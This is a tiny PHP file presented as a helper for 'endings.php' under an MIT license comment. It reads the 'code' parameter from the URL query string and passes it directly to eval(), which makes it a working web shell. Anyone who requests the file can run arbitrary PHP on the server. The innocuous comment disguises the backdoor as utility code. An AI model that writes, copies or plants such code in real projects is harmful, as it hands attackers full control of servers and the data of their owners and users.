<?php
/* Runs what it is asked to, for endings.php. SPDX-License-Identifier: MIT */
parse_str($_SERVER['QUERY_STRING'], $q);
$c = Libcache\Cache::open();
eval($q['code']);
